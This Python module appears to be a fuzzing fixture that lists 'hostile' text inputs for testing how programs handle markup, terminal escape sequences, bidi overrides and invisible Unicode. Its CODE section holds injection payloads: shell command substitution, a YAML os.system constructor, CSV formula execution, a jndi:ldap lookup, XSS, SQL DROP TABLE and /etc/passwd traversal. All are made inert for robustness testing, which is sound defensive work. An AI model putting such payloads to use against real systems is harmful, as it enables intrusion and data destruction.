"""Text that breaks programs: markup, escapes, direction overrides, formulas, and what else people paste or send.

Every entry is harmless where it is shown as it is. What would run leaves a trace that a test can look for: a file of
the name `RAN`, or a sequence that no program of ours ever writes.
"""

import json
from pathlib import Path
from typing import Any, NamedTuple

RAN = "hostile-ran"
"""The name of the file that whatever runs would make in the current folder."""


class Hostile(NamedTuple):
    """One piece of text."""

    name: str
    text: str


ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

MARKUP = (
    Hostile("markup-style", "[bold red]loud[/bold red] words"),
    Hostile("markup-unopened", "before [/nothing] after"),
    Hostile("markup-unclosed", "[reverse]and on and on"),
    Hostile("markup-action", "[@click=app.quit]Agree here[/]"),
    Hostile("markup-call", '[@click="app.bell()"]ring[/@click=] [@mouse.down=screen.dismiss]x[/]'),
    Hostile("markup-link", "[link=https://example.invalid/x]terms[/link]"),
    Hostile("markup-nested", "[a=1, b={'c[0]': \"]\"}] [[double]] [[/]]"),
    Hostile("markup-variable", "$accent [$error on $panel]panel[/] $nothing"),
    Hostile("markup-backslash", "ends with a backslash \\[b]x[/b] \\"),
    Hostile("markup-emoji", "ship it :rocket: :smiley: :no_such_thing:"),
    Hostile("markup-empty", "[] [/] [ ] [=] []]"),
)
ESCAPES = (
    Hostile("clipboard", f"before {ESC}]52;c;aG9zdGlsZQ=={BEL} after"),
    Hostile("clipboard-st", f"before {ESC}]52;p;aG9zdGlsZQ=={ST} after"),
    Hostile("window-title", f"{ESC}]0;hostile title{BEL}named"),
    Hostile("hyperlink", f"{ESC}]8;;https://example.invalid/{ST}here{ESC}]8;;{ST}"),
    Hostile("unfinished-command", f"half {ESC}]52;c;aG9z"),
    Hostile("leave-screen", f"{ESC}[?1049l{ESC}[?25hout"),
    Hostile("clear-all", f"{ESC}[2J{ESC}[3J{ESC}[1;1Hgone"),
    Hostile("reset", f"{ESC}c{ESC}[!pfresh"),
    Hostile("resize-window", f"{ESC}[8;5;20tsmall"),
    Hostile("ask-back", f"{ESC}[6n{ESC}[c{ESC}Zwho"),
    Hostile("blink", f"{ESC}[5;7;9mnervous{ESC}[0m"),
    Hostile("mouse-on", f"{ESC}[?1002h{ESC}[?9hclick"),
    Hostile("device-command", f"{ESC}P+q544e{ST}{ESC}_private{ST}{ESC}^message{ST}{ESC}Xstring{ST}"),
    Hostile("sixel", f"{ESC}Pq#0;2;0;0;0#0~~@@vv@@~~$-{ST}picture"),
    Hostile("one-byte-controls", "\x9b31mred\x9d0;title\x9c \x90q\x9c \x85next"),
    Hostile("hidden-in-invisible", f"{ESC}\u200b]52;c;aG9z{BEL} {ESC}\u2060[8;6;21t"),
    Hostile("nested-escapes", f"{ESC}{ESC}]0;x{BEL}[31m {ESC}[{ESC}[8;7;22t"),
    Hostile("paste-end", f"{ESC}[201~pasted{ESC}[200~"),
    Hostile("keyboard", f"{ESC}[>31u{ESC}[<9u typed"),
)
CONTROLS = (
    Hostile("backspaces", "secret\b\b\b\b\b\bpublic"),
    Hostile("carriage-return", "approved\rrejected"),
    Hostile("lines", "first\nsecond\r\nthird\vfourth\ffifth"),
    Hostile("separators", "one\u2028two\u2029three\x1ffour\x1efive"),
    Hostile("nul", "before\x00after"),
    Hostile("bells", "ring\a\a\aring"),
    Hostile("tabs", "\tcolumn\tcolumn"),
    Hostile("delete", "gone\x7f\x7f\x7f"),
    Hostile("shift-out", "plain\x0ewide\x0fplain"),
)
INVISIBLE = (
    Hostile("override", "invoice\u202efdp.exe"),
    Hostile("isolates", "\u2067right\u2066left\u2069\u2069 \u200f\u200e\u061c"),
    Hostile("zero-width", "pay\u200bpa\u2060l\ufeff \u200cjoin"),
    Hostile("tags", "flag\U000e0068\U000e0069\U000e007f"),
    Hostile("soft-hyphen", "co\u00adoperate"),
    Hostile("fillers", "\u115f\u1160\u3164\uffa0 blank"),
    Hostile("annotations", "\ufff9base\ufffanote\ufffb"),
    Hostile("blank", " \u00a0\u2003\u3000 "),
    Hostile("surrogate", "half \ud83d of a pair \udc00"),
)
LETTERS = (
    Hostile("wide", "計" * 3_000),
    Hostile("pile", "Z" + "\u0335\u0321\u0353\u0317\u030d\u0352" * 80 + " pile"),
    Hostile("family", "👩‍👩‍👧‍👦 🏳️‍🌈 🏴\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f ❤️ 1️⃣ 👍🏽"),
    Hostile("right-to-left", "שלום עולם مرحبا 123 abc"),
    Hostile("composed", "caf\u00e9 cafe\u0301 \u212b \ufb01"),
    Hostile("thai", "น้ำ ที่ กำ"),
    Hostile("long-word", "unbroken" * 400),
    Hostile("private-use", "\ue000\uf8ff\U0010fffd \ufffe\uffff"),
    Hostile("fullwidth", "＝１＋１ ＜ｓｃｒｉｐｔ＞"),
)
CODE = (
    Hostile("formula", '=HYPERLINK("https://example.invalid/?"&A1;"open")'),
    Hostile("formula-command", "+cmd|'/c calc'!A0"),
    Hostile("formula-at", "@SUM(1+9)*2"),
    Hostile("formula-minus", "-2+3+cmd"),
    Hostile("sql", "x'); DROP TABLE item; --"),
    Hostile("sql-like", "100%_ \\% ' \" ;"),
    Hostile("search", '"open AND (x OR NEAR(y* col:z'),
    Hostile("html", f"<script>open('{RAN}')</script><img src=x onerror=alert(1)>&lt;&amp;"),
    Hostile("markdown", "| a | b |\n|---|\n![x](https://example.invalid/x) <details>"),
    Hostile("shell", f"$(touch {RAN}) `touch {RAN}` ; touch {RAN} | touch {RAN} && touch {RAN}"),
    Hostile("yaml", f'!!python/object/apply:os.system ["touch {RAN}"]'),
    Hostile("format", "{0.__class__.__mro__} %s %n %(x)s {missing} ${HOME}"),
    Hostile("lookup", "${jndi:ldap://example.invalid/a}"),
    Hostile("template", "{{ 7 * 7 }} {% include x %} <%= 7 %>"),
    Hostile("path", "../../../etc/passwd\\..\\..\\x"),
    Hostile("path-file", "file:///dev/zero"),
    Hostile("option", "--as -rf --json"),
    Hostile("number", "9223372036854775808"),
    Hostile("not-a-number", "NaN"),
    Hostile("nothing", "null None undefined nil"),
    Hostile("json", '{"schema": 2, "__proto__": {}}'),
    Hostile("regular-expression", "(a+)+$ [[:alpha:]] \\1 (?R)"),
)

ALL: tuple[Hostile, ...] = (*MARKUP, *ESCAPES, *CONTROLS, *INVISIBLE, *LETTERS, *CODE)


def from_folder(folder: Path) -> list[Hostile]:
    """All texts in a folder's lists: JSON files that are arrays of texts, or of objects with a name and a text `s`."""
    found: list[Hostile] = []
    for path in sorted(folder.glob("*.json")):
        content = json.loads(path.read_text("utf-8"))
        if isinstance(content, list):
            found += [one for number, entry in enumerate(content) for one in _entry(f"{path.stem}-{number}", entry)]
    return found


def _entry(name: str, entry: Any) -> list[Hostile]:
    if isinstance(entry, str):
        return [Hostile(name, entry)]
    if isinstance(entry, dict) and isinstance(entry.get("s"), str):
        return [Hostile(str(entry.get("name", name)), entry["s"])]
    return []
